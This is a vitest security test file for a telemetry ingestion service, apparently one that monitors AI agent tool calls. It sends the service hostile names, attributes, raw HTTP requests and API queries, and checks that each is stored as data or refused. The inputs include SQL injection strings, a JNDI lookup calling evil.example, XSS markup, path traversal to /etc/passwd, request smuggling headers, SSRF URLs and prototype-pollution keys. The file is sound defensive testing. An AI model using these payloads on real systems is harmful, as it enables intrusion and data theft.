/**
 * Hostile telemetry through everything: doors, dialects, assembler, detectors, store and API of one real process. Each
 * input ends as data or in a counted refusal; none stops the process, and in the end the books balance.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import pino from 'pino'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { makeKey } from '../api/keys.ts'
import { type Config, loadConfig } from '../config.ts'
import { startTelltale, type Telltale } from '../run.ts'
import type { Alert } from '../schema/alert.ts'
import type { Telemetry } from '../schema/telemetry.ts'
import {
  type CallParts,
  callCalls,
  callRequest,
  callSpan,
  postCalls,
  spanIdOf,
  spansRequest,
  traceIdOf,
} from './one-call.ts'

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })

const [ingest, read, otherIngest, otherRead] = (['ingest', 'read', 'ingest', 'read'] as const).map(makeKey)
const keyOf = (made: ReturnType<typeof makeKey> | undefined) => made?.key as string

/** What everything inherits, before anything hostile came. */
const prototypes = [Object.prototype, Array.prototype, Map.prototype, Function.prototype]
const inherited = () => prototypes.map((prototype) => Reflect.ownKeys(prototype).length)
const untouched = inherited()

let directory: string
let telltale: Telltale
const logged: string[] = []
/** Every call has its own number, so that no two tests meet in one trace. */
let calls = 0
const next = () => {
  calls += 1
  return calls
}

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'telltale-hostile-'))
  mkdirSync(join(directory, 'policies'))
  // Whoever it is may search, and do nothing else: every other name ends in an alert, too.
  writeFileSync(
    join(directory, 'policies/all.yml'),
    'version: 1\nid: all\nagent: {id: "*"}\ntools: {allow: [search]}\n',
  )
  const config: Config = {
    ...loadConfig(undefined, {}),
    data: join(directory, 'data'),
    policies: join(directory, 'policies'),
    listen: { host: '127.0.0.1', otlp_http_port: 0, otlp_grpc_port: 0, api_port: 0 },
    keys: [
      { name: 'a', scope: 'ingest', sha256: ingest?.sha256 as string, tenant: 'acme' },
      { name: 'b', scope: 'read', sha256: read?.sha256 as string, tenant: 'acme' },
      { name: 'c', scope: 'ingest', sha256: otherIngest?.sha256 as string, tenant: "o'ther; DROP TABLE events" },
      { name: 'd', scope: 'read', sha256: otherRead?.sha256 as string, tenant: "o'ther; DROP TABLE events" },
    ],
  }
  telltale = await startTelltale(config, pino({ level: 'error' }, { write: (line) => logged.push(line) }))
})

afterAll(async () => {
  await telltale?.close()
  rmSync(directory, { recursive: true, force: true })
})

const get = async <Body>(path: string, key = keyOf(read)) => {
  const response = await fetch(`${telltale.api}/api/v1/${path}`, { headers: { authorization: `Bearer ${key}` } })
  return { status: response.status, body: (await response.json()) as Body }
}

async function events(filter: Readonly<Record<string, string>>, key?: string): Promise<readonly Telemetry[]> {
  const items: Telemetry[] = []
  let cursor: string | undefined
  do {
    const query = new URLSearchParams({ limit: '1000', ...filter, ...(cursor === undefined ? {} : { cursor }) })
    const { body } = await get<{ items: Telemetry[]; next?: string }>(`events?${query}`, key)
    items.push(...body.items)
    cursor = body.next
  } while (cursor !== undefined)
  return items
}

/** Sends spans of one request and expects them to be taken. */
async function send(spans: readonly object[], service?: string): Promise<void> {
  const response = await postCalls(telltale.otlpHttp, spansRequest(spans, service), keyOf(ingest))
  expect([response.status, await response.json()]).toEqual([200, expect.not.objectContaining({ error: 1 })])
}

/** Nothing is behind and nothing is held. */
async function settled(): Promise<void> {
  for (let attempt = 0; attempt < 600; attempt += 1) {
    const { lag, records } = await telltale.health()
    if (records.in_flight === 0 && Object.values(lag).every((behind) => behind === 0)) {
      return
    }
    await sleep(100)
  }
  throw new Error(`not settled: ${JSON.stringify(await telltale.health())}`)
}

/** After each test it still works, and nobody was harmed. */
afterEach(async () => {
  const { reasons, status } = await telltale.health()
  expect({ reasons, status }).toEqual({ reasons: [], status: 'ok' })
  expect(inherited()).toEqual(untouched)
  expect(logged).toEqual([])
})

/** What was sent, and what is to be stored where it differs: names are one line, without what cannot be seen. */
const NAMES: readonly (readonly [sent: string, stored?: string])[] = [
  ['../../etc/passwd'],
  ['a/b'],
  ['a\0b', 'a b'],
  ['c\nd', 'c d'],
  ['red\u001b[31m', 'red [31m'],
  ['=cmd()'],
  ["'; DROP TABLE events; --"],
  ['" OR 1=1'],
  ['\\'],
  ["\\'"],
  ['{x:String}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers of other products write.
  ['${jndi:ldap://evil.example/a}'],
  ['%n%s%x'],
  ['<script>alert(1)</script>'],
  ['[a](https://evil.example)'],
  ['|CEF:0|a=b'],
  ['rtl\u202eoverride', 'rtloverride'],
  ['zero\u200bwidth', 'zerowidth'],
  ['e\u0301 decomposed'],
  ['\u00e9 composed'],
  ['s\u0435arch with a Cyrillic e'],
  ['__proto__'],
  ['constructor'],
  ['prototype'],
  ['hasOwnProperty'],
  ['toString'],
  ['__other__'],
  ['null'],
  ['true'],
  ['-1'],
  ['1'],
  ['01'],
  ['1e999'],
  ['NaN'],
  ['*'],
  ['%'],
  ['_'],
  ['\u2028', ''],
  ['half \ud800 surrogate', 'half \ufffd surrogate'],
  ['x'.repeat(1_000_000), 'x'.repeat(512)],
  ['  spaces around  ', 'spaces around'],
]
const named = NAMES.filter(([sent, stored = sent]) => stored !== '')

describe('names of agents, sessions and tools', () => {
  it('are data all the way, whatever they are', async () => {
    await send(named.map(([name]) => callSpan({ call: next(), agent: name, session: `s ${name.trim()}`, tool: name })))
    await settled()
    const wrong: unknown[] = []
    for (const [sent, stored = sent] of named) {
      const session = `s ${stored}`.slice(0, 512)
      for (const filter of [{ tool: stored }, { agent: stored }, { session }]) {
        const found = await events(filter)
        const seen = found.map((event) => [event.agent.id, event.session_id, event.tool?.name])
        if (JSON.stringify(seen) !== JSON.stringify([[stored, session, stored]])) {
          wrong.push([filter, seen])
        }
      }
    }
    expect(wrong).toEqual([])
  })

  it('are listed as agents, each once', async () => {
    const { body } = await get<{ items: readonly { id: string }[] }>('agents')
    const ids = body.items.map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    expect(named.map(([sent, stored = sent]) => stored).filter((name) => !ids.includes(name))).toEqual([])
  })

  it('stand in titles and sentences of alerts only as printable ASCII that is no markup', async () => {
    await settled()
    const { body } = await get<{ items: readonly Alert[] }>('alerts?limit=1000')
    expect(body.items.length).toBeGreaterThanOrEqual(named.length - 5)
    for (const { title, reason, techniques, runbook } of body.items) {
      for (const text of [title, reason, ...runbook, ...techniques.map(({ name }) => name)]) {
        expect(text).toMatch(/^[\x20-\x7e]*$/)
        expect(text).not.toMatch(/<script|\]\(|https?:\/\/evil|\$\{jndi/)
      }
      expect(title.length).toBeLessThan(300)
    }
  })

  it('that are empty, blank or no text fall back to what else is known', async () => {
    const odd = (value: object) => {
      const span = callSpan({ call: next(), session: 'odd' }) as { attributes: { key: string; value: object }[] }
      const attributes = span.attributes.map((entry) => (entry.key === 'gen_ai.agent.id' ? { ...entry, value } : entry))
      return { ...span, attributes }
    }
    const values = [
      { stringValue: '' },
      { stringValue: ' \t\u200b' },
      {},
      { arrayValue: { values: [] } },
      { stringValue: null },
    ]
    await send(values.map(odd), 'the-service')
    await settled()
    const found = await events({ session: 'odd' })
    expect(found.map(({ agent }) => agent.id)).toEqual(values.map(() => 'the-service'))
  })

  it("are one tenant's own: the same ids in two tenants never meet", async () => {
    const call = next()
    const request = callRequest({
      call,
      agent: 'shared',
      session: 'shared',
      tool: 'search',
      arguments: '{"of":"acme"}',
    })
    const other = callRequest({ call, agent: 'shared', session: 'shared', tool: 'shell', arguments: '{"of":"other"}' })
    expect(await callCalls(telltale.otlpGrpc, request, keyOf(ingest))).toBe(0)
    expect(await callCalls(telltale.otlpGrpc, other, keyOf(otherIngest))).toBe(0)
    await settled()
    const mine = await events({ session: 'shared' })
    const theirs = await events({ session: 'shared' }, keyOf(otherRead))
    expect([mine, theirs].map((found) => found.map(({ tool }) => tool?.name))).toEqual([['search'], ['shell']])
    expect(mine[0]?.event_id).not.toBe(undefined)
    const foreign = await get(`events/${theirs[0]?.event_id}`)
    expect(mine[0]?.event_id === theirs[0]?.event_id ? 404 : foreign.status).toBe(404)
    const alerts = await get<{ items: readonly Alert[] }>('alerts?agent=shared')
    expect(alerts.body.items).toEqual([])
    const theirAlerts = await get<{ items: readonly Alert[] }>('alerts?agent=shared', keyOf(otherRead))
    expect(theirAlerts.body.items).toHaveLength(1)
    const id = theirAlerts.body.items[0]?.alert_id
    expect((await get(`alerts/${id}`)).status).toBe(404)
    expect((await get(`alerts/${id}`, keyOf(otherRead))).status).toBe(200)
  })
})

describe('attributes and contents', () => {
  const KEYS = [
    '__proto__',
    'constructor',
    'constructor.prototype.x',
    'a.__proto__.b',
    'toString',
    'hasOwnProperty',
    'then',
    'toJSON',
    'length',
    '',
    '0',
    '65536',
  ]

  it('keep their keys as they are, and nothing grows from dots', async () => {
    const more = Object.fromEntries(KEYS.map((key) => [key, `of ${key}`]))
    Object.defineProperty(more, '__proto__', { value: 'of __proto__', enumerable: true })
    await send([callSpan({ call: next(), session: 'keys', more })])
    await settled()
    const [event] = await events({ session: 'keys' })
    const attributes = event?.attributes as Record<string, unknown>
    for (const key of KEYS.filter((each) => each !== '')) {
      expect([key, Object.getOwnPropertyDescriptor(attributes, key)?.value]).toEqual([key, `of ${key}`])
    }
  })

  it('keep their text to the character', async () => {
    const texts = [
      '\u0000 nul',
      '\u2028'.repeat(1000),
      "'); DROP TABLE events; --",
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
      `${'['.repeat(3000)}${']'.repeat(3000)}`,
      '\u202e\u200b invisible, and content is not a name',
      '{x:String} ? %s $1 :id',
      '\\N',
      '1e999',
    ]
    const sent = texts.map((text, index) => ({ call: next(), session: `text-${index}`, arguments: text, result: text }))
    await send(sent.map(callSpan))
    await settled()
    for (const [index, text] of texts.entries()) {
      const [event] = await events({ session: `text-${index}` })
      expect([event?.content?.arguments, event?.content?.result]).toEqual([text, text])
    }
  })

  it('come in every wrong form without harm', async () => {
    const wrong = [
      { key: 'a', value: { stringValue: 7 } },
      { key: 'b', value: { intValue: 'abc' } },
      { key: 'c', value: { intValue: '99999999999999999999' } },
      { key: 'd', value: { doubleValue: 'NaN' } },
      { key: 'e', value: { doubleValue: 1e308 } },
      { key: 'f', value: { bytesValue: '!!' } },
      { key: 'g', value: { kvlistValue: { values: [{ key: '__proto__', value: { stringValue: 'x' } }] } } },
      { key: 'h', value: null },
      { key: 7, value: { boolValue: true } },
      null,
      'text',
      { value: { stringValue: 'no key' } },
    ]
    const span = callSpan({ call: next(), session: 'wrong-forms' }) as { attributes: object[] }
    await send([{ ...span, attributes: [...span.attributes, ...wrong] }])
    await settled()
    expect(await events({ session: 'wrong-forms' })).toHaveLength(1)
  })
})

describe('time and order', () => {
  it('a span a thousand times is one event', async () => {
    const span = callSpan({ call: next(), session: 'thousand', startMs: Date.now() })
    const before = (await telltale.health()).records.outcomes['assemble.duplicate'] ?? 0
    for (let request = 0; request < 10; request += 1) {
      await send(Array.from({ length: 100 }, () => span))
    }
    await settled()
    expect(await events({ session: 'thousand' })).toHaveLength(1)
    expect((await telltale.health()).records.outcomes['assemble.duplicate']).toBe(before + 999)
  })

  it('a span sent again with other content stays one event, and the first word stands', async () => {
    const call = next()
    const first = { call, session: 'changed', tool: 'search', arguments: '{"q":"first"}', startMs: Date.now() }
    await send([callSpan(first)])
    await settled()
    await send([callSpan({ ...first, tool: 'shell', arguments: '{"q":"second"}' })])
    await settled()
    const found = await events({ session: 'changed' })
    expect(found.map(({ tool, content }) => [tool?.name, content?.arguments])).toEqual([['search', '{"q":"first"}']])
  })

  it("children before their parent are the parent's", async () => {
    const [root, ...children] = [next(), next(), next(), next()]
    const trace = root as number
    const nameless = (call: number): object => {
      const span = callSpan({ call, trace, parent: trace, session: 'late' }) as { attributes: { key: string }[] }
      const attributes = span.attributes.filter(
        ({ key }) => key !== 'gen_ai.agent.id' && key !== 'gen_ai.conversation.id',
      )
      return { ...span, attributes }
    }
    for (const call of children) {
      await send([nameless(call)], 'children-first')
    }
    const parent = {
      ...(callSpan({ call: trace, trace, session: 'late', agent: 'late-parent' }) as { attributes: { key: string }[] }),
      name: 'invoke_agent',
    }
    const attributes = parent.attributes
      .filter(({ key }) => !key.startsWith('gen_ai.tool'))
      .map((entry) =>
        entry.key === 'gen_ai.operation.name' ? { ...entry, value: { stringValue: 'invoke_agent' } } : entry,
      )
    await send([{ ...parent, attributes }], 'children-first')
    await settled()
    const found = (await events({ trace: traceIdOf(trace) })).filter(({ operation }) => operation === 'tool_call')
    expect(found).toHaveLength(3)
    expect(new Set(found.map(({ agent, session_id }) => `${agent.id} ${session_id}`))).toEqual(
      new Set(['late-parent late']),
    )
  })

  it('a child whose parent never comes is told all the same', async () => {
    const [call, trace] = [next(), next()]
    const span = callSpan({ call, trace, parent: 999_999 }) as { attributes: { key: string }[] }
    await send(
      [{ ...span, attributes: span.attributes.filter(({ key }) => !/agent|conversation/.test(key)) }],
      'orphanage',
    )
    await settled()
    const [event] = await events({ trace: traceIdOf(trace) })
    expect([event?.agent.id, event?.span_id, event?.parent_span_id]).toEqual([
      'orphanage',
      spanIdOf(call),
      spanIdOf(999_999),
    ])
  })

  it('a span that is its own parent, and a circle of two, are told', async () => {
    const [self, one, two] = [next(), next(), next()]
    const nameless = (parts: CallParts) => {
      const span = callSpan(parts) as { attributes: { key: string }[] }
      return { ...span, attributes: span.attributes.filter(({ key }) => !/agent|conversation/.test(key)) }
    }
    await send([nameless({ call: self, trace: self, parent: self })], 'circle')
    await send(
      [nameless({ call: one, trace: one, parent: two }), nameless({ call: two, trace: one, parent: one })],
      'circle',
    )
    await settled()
    expect(await events({ trace: traceIdOf(self) })).toHaveLength(1)
    expect(await events({ trace: traceIdOf(one) })).toHaveLength(2)
  })

  it('clocks that are years off move no event into the future', async () => {
    const year = 365 * 86_400_000
    const now = Date.now()
    const times = [now - 10 * year, now + 10 * year, now - year / 365 / 24, now + year / 365 / 24, 0, 1, 2 ** 43]
    await send(times.map((startMs) => callSpan({ call: next(), session: 'clocks', startMs })))
    await settled()
    const found = await events({ session: 'clocks' })
    expect(found).toHaveLength(times.length)
    for (const { time_ms } of found) {
      expect(time_ms).toBeLessThanOrEqual(Date.now() + 5 * 60_000)
      expect(time_ms).toBeGreaterThanOrEqual(0)
    }
    expect(found.filter(({ attributes }) => attributes?.['telltale.clock_skew'] !== undefined)).toHaveLength(3)
  })

  it('times that are none, end before they start or overflow cost no event', async () => {
    const span = callSpan({ call: next(), session: 'no-time' }) as Record<string, unknown>
    const times = [
      ['0', '0'],
      ['1795287594000000000', '1795287593000000000'],
      ['9223372036854775807', '9223372036854775807'],
      ['18446744073709551615', '0'],
      ['-1', '-1'],
      ['soon', null],
      [1e308, -1e308],
    ]
    const spans = times.map(([startTimeUnixNano, endTimeUnixNano]) => {
      return { ...span, spanId: spanIdOf(next()), startTimeUnixNano, endTimeUnixNano }
    })
    await send(spans)
    await settled()
    const found = await events({ session: 'no-time' })
    expect(found).toHaveLength(times.length)
    for (const { duration_ms } of found) {
      expect(duration_ms ?? 0).toBeGreaterThanOrEqual(0)
    }
  })

  it('two thousand events of one moment are all kept, and all are listed', async () => {
    const startMs = Date.now() - 60_000
    await send(Array.from({ length: 2000 }, () => callSpan({ call: next(), session: 'moment', startMs })))
    await settled()
    const found = await events({ session: 'moment', limit: '300' })
    expect(new Set(found.map(({ event_id }) => event_id)).size).toBe(2000)
    expect(found).toHaveLength(2000)
  })

  it('ids that are none, or too short or long, are told without them', async () => {
    const span = callSpan({ call: next(), session: 'no-ids' }) as Record<string, unknown>
    const ids = ['', '0'.repeat(32), 'xyz', 'a'.repeat(31), 'a'.repeat(34), 'A'.repeat(32), null, 7]
    await send(
      ids.map((id, index) => ({
        ...span,
        name: `n${index}`,
        traceId: id,
        spanId: typeof id === 'string' ? id.slice(0, 16) : id,
      })),
    )
    await settled()
    expect((await events({ session: 'no-ids' })).length).toBeGreaterThanOrEqual(1)
  })
})

describe('requests', () => {
  /** Writes bytes on a socket and gives what comes back until the other side hangs up or is silent. */
  const raw = (address: string, bytes: string | Buffer): Promise<string> =>
    new Promise((resolve) => {
      const socket = connect(Number(new URL(address).port), '127.0.0.1')
      let answer = ''
      const done = () => {
        socket.destroy()
        resolve(answer)
      }
      socket.on('error', done).on('close', done)
      socket.on('data', (chunk) => {
        answer += chunk.toString('latin1')
      })
      socket.setTimeout(300, done)
      socket.write(bytes)
    })

  const bearer = `Authorization: Bearer ${keyOf(read)}\r\n`
  const asked = (line: string, more = '') => `${line}\r\nHost: localhost\r\n${bearer}${more}\r\n`
  const LINES: readonly (readonly [what: string, bytes: string | Buffer])[] = [
    ['TRACE', asked('TRACE /api/v1/events HTTP/1.1')],
    ['CONNECT', asked('CONNECT /api/v1/events HTTP/1.1')],
    ['a method that is none', asked('GE T /api/v1/events HTTP/1.1')],
    ['doubled slashes', asked('GET //api//v1//events HTTP/1.1')],
    ['a way out', asked('GET /api/v1/events/../../../etc/passwd HTTP/1.1')],
    ['an encoded way out', asked('GET /api/v1/events/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1')],
    ['a NUL in the path', asked('GET /api/v1/events\0 HTTP/1.1')],
    ['an encoded NUL', asked('GET /api/v1/events/%00 HTTP/1.1')],
    ['a broken escape', asked('GET /api/v1/events/%zz HTTP/1.1')],
    ['64 kB of path', asked(`GET /api/v1/${'x'.repeat(65_536)} HTTP/1.1`)],
    ['10,000 headers', asked('GET /api/v1/events HTTP/1.1', 'X-A: 1\r\n'.repeat(10_000))],
    ['a header __proto__', asked('GET /api/v1/nothing HTTP/1.1', '__proto__: 1\r\n')],
    ['two lengths', asked('POST /api/v1/events HTTP/1.1', 'Content-Length: 1\r\nContent-Length: 2\r\n')],
    [
      'a length and chunks',
      asked('POST /api/v1/events HTTP/1.1', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n'),
    ],
    ['a negative length', asked('POST /api/v1/events HTTP/1.1', 'Content-Length: -1\r\n')],
    ['HTTP/2 on an HTTP/1 port', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['a TLS greeting', Buffer.from('16030100a5010000a10303', 'hex')],
    ['nothing but line ends', '\r\n'.repeat(1000)],
    ['noise', Buffer.alloc(4096, 0xff)],
  ]

  it.each(LINES)('of %s are refused by every door', async (_what, bytes) => {
    const doors = [telltale.api, telltale.otlpHttp, telltale.otlpGrpc]
    for (const answer of await Promise.all(doors.map((door) => raw(door, bytes)))) {
      expect(answer).not.toMatch(/^HTTP\/1\.1 (2|500)/)
    }
  })

  const BODIES: readonly (readonly [what: string, body: string | Buffer])[] = [
    ['nothing', ''],
    ['null', 'null'],
    ['a list', '[]'],
    ['a text', '"x"'],
    ['a trailing comma', '{"resourceSpans":[],}'],
    ['NaN', '{"resourceSpans":NaN}'],
    ['UTF-16', Buffer.from('{"resourceSpans":[]}', 'utf16le')],
    ['five thousand levels', `{"resourceSpans":${'['.repeat(5000)}${']'.repeat(5000)}}`],
    ['levels without end', '['.repeat(5_000_000)],
    ['a million keys', `{${Array.from({ length: 1_000_000 }, (_, index) => `"${index * 65_536}":0`).join(',')}}`],
    ['groups that are no list', '{"resourceSpans":{"length":1000000000}}'],
  ]

  it.each(BODIES)('with a body of %s are refused or hold nothing, and the books balance', async (_what, body) => {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${keyOf(ingest)}` }
    const response = await fetch(`${telltale.otlpHttp}/v1/traces`, { method: 'POST', headers, body })
    expect([200, 400, 413]).toContain(response.status)
    await response.arrayBuffer()
  })

  it('with keys of JavaScript in place of every field are taken for what they are', async () => {
    const nested =
      '{"resourceSpans":[{"__proto__":{"scopeSpans":[1]},"scopeSpans":[{"spans":[{"constructor":{"prototype":{"polluted":1}},"name":"x"}],"toString":1}]}]}'
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${keyOf(ingest)}` }
    const response = await fetch(`${telltale.otlpHttp}/v1/traces`, { method: 'POST', headers, body: nested })
    expect(response.status).toBe(200)
    expect(({} as { polluted?: number }).polluted).toBeUndefined()
  })
})

describe('questions to the API', () => {
  const VALUES = [
    "' OR 1=1 --",
    '{y:String}',
    "file('/etc/passwd')",
    "url('http://169.254.169.254/')",
    'SETTINGS readonly=0',
    'a FORMAT TabSeparated',
    '/* */ ; DROP TABLE events',
    '%'.repeat(512),
    '(a+)+$',
    '\u0000',
    '\ud800',
    '\\\\',
    "\\' OR 1",
  ]

  it.each(VALUES)('compare with %j as a text, and find nothing', async (value) => {
    for (const [listing, filters] of Object.entries({
      events: ['agent', 'session', 'tool', 'trace'],
      alerts: ['agent', 'session', 'detector'],
      findings: ['agent', 'session', 'event', 'detector'],
    })) {
      for (const filter of filters) {
        const { status, body } = await get<{ items?: unknown[] }>(
          `${listing}?${new URLSearchParams({ [filter]: value })}`,
        )
        expect([listing, filter, status, body.items]).toEqual([listing, filter, 200, []])
      }
    }
  })

  it.each(['from=0&to=9999999999999999', 'from=1900-01-01', 'to=9999-12-31', 'from=2026-02-30', 'limit=1000'])(
    'about any time are answered or refused, never failed: %s',
    async (query) => {
      for (const listing of ['events', 'alerts', 'findings']) {
        expect([200, 400]).toContain((await get(`${listing}?${query}`)).status)
      }
    },
  )

  it('take no cursor that another tenant, another listing or nobody gave', async () => {
    const { body } = await get<{ next?: string }>('events?limit=1')
    const cursor = body.next as string
    expect(cursor).toBeDefined()
    expect((await get(`events?limit=1&cursor=${cursor}`)).status).toBe(200)
    expect((await get(`alerts?limit=1&cursor=${cursor}`)).status).toBe(400)
    expect((await get(`events?limit=1&cursor=${cursor}`, keyOf(otherRead))).status).toBe(400)
    const forged = Buffer.from(JSON.stringify(['x', 1, "' OR 1=1"])).toString('base64url')
    expect((await get(`events?cursor=${forged}`)).status).toBe(400)
    const [bound] = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8')) as unknown[]
    const changed = Buffer.from(JSON.stringify([bound, Number.MAX_SAFE_INTEGER, "' OR 1=1 --"])).toString('base64url')
    expect((await get(`events?limit=1&cursor=${changed}`)).status).toBe(200)
  })
})

describe('in the end', () => {
  it('a good call still goes all the way, and every record has come to one end', async () => {
    await send([callSpan({ call: next(), session: 'the last one' })])
    await settled()
    expect(await events({ session: 'the last one' })).toHaveLength(1)
    const { records } = await telltale.health()
    expect(records.in_flight).toBe(0)
    expect(records.received).toBeGreaterThan(3000)
    const strange = /unknown|^(assemble|detect|correlate)\.rejected/
    expect(Object.keys(records.outcomes).filter((name) => strange.test(name))).toEqual([])
  })
})
